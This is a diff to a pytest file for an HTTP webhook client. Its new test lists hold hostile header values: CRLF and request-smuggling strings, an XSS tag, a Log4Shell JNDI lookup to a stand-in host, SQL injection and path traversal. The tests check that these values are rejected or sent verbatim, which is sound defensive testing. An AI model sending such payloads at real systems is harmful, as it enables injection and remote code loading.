@@ -90,34 +90,81 @@ def test_headers_of_the_webhook_come_on_top() -> None:
     )
 
 
-@pytest.mark.parametrize(
-    "headers",
-    [
-        {"x": "a\r\ny: z"},
-        {"x": "a\ny: z"},
-        {"x": "a\rb"},
-        {"x": "a\x00b"},
-        {"x": "Zoë"},
-        {"x": "\u202e"},
-        {"x": "\ud800"},
-        {"x": " a"},
-        {"x": "a "},
-        {"x y": "a"},
-        {"x:": "a"},
-        {"x\r\ny": "a"},
-        {"": "a"},
-        {"ü": "a"},
-        {"content-length": "1"},
-        {"content-length": "99"},
-        {"content-length": "-1"},
-        {"content-length": "x"},
-        {"transfer-encoding": "gzip"},
-        {"host": "a\r\nb"},
-    ],
+UNSENDABLE: tuple[dict[str, str], ...] = (
+    {"x": "a\r\ny: z"},
+    {"x": "a\ny: z"},
+    {"x": "a\n y"},
+    {"x": "a\rb"},
+    {"x": "a\r\n\r\nGET / HTTP/1.1"},
+    {"x": "\r\n"},
+    {"x": "a\x00b"},
+    {"x": "\x00"},
+    {"x": "a\x0bb"},
+    {"x": "a\x0cb"},
+    {"x": "a\x80b"},
+    {"x": "a\x85b"},
+    {"x": "a\xa0b"},
+    {"x": "a\xffb"},
+    {"x": "Zoë"},
+    {"x": "\u010a\u010d"},
+    {"x": "\u2028"},
+    {"x": "\u202e"},
+    {"x": "\ufeffa"},
+    {"x": "\ud800"},
+    {"x": "\U0001f984"},
+    {"x": " a"},
+    {"x": "a "},
+    {"x": "\ta"},
+    {"x y": "a"},
+    {"x:": "a"},
+    {"x\r\ny": "a"},
+    {"x\x00": "a"},
+    {"x(": "a"},
+    {"": "a"},
+    {"ü": "a"},
+    {"content-length": "1"},
+    {"content-length": "99"},
+    {"content-length": "-1"},
+    {"content-length": "x"},
+    {"transfer-encoding": "gzip"},
+    {"host": "a\r\nb"},
 )
+SENDABLE = (
+    "",
+    "a  b",
+    "a\tb",
+    "a,b",
+    'a; b="c\\""',
+    "(a)",
+    "a: b",
+    "\\r\\nx: y",
+    "%0d%0ax: y",
+    "=?utf-8?q?=0d=0a?=",
+    "<script>alert(1)</script>",
+    "${jndi:ldap://evil.test/x}",
+    "{{7*7}}",
+    "'; drop table calls; --",
+    "../../etc/passwd",
+    "HTTP/1.1 200 OK",
+    "a" * 8_000,
+)
+
+
+def test_there_are_forty_values() -> None:
+    assert len(UNSENDABLE) + len(SENDABLE) >= 40
+
+
+@pytest.mark.parametrize("headers", UNSENDABLE)
 def test_header_that_cannot_be_sent(headers: dict[str, str]) -> None:
     answer = carried(says(OK), headers=headers, body={"a": 1})
     assert answer == Answer(None, "protocol")
+
+
+@pytest.mark.parametrize("value", SENDABLE)
+def test_header_is_sent_as_it_is_and_is_one(value: str) -> None:
+    lines = heard(headers={"x": value}, body={})
+    assert [line for line in lines if line.startswith("x:")] == [f"x: {value}"]
+    assert len(lines) == len(heard(headers={"x": "a"}, body={}))
 
 
 @pytest.mark.parametrize("method", ["", "A B", "GET /x HTTP/1.1\r\n", "Ü", "CONNECT"])
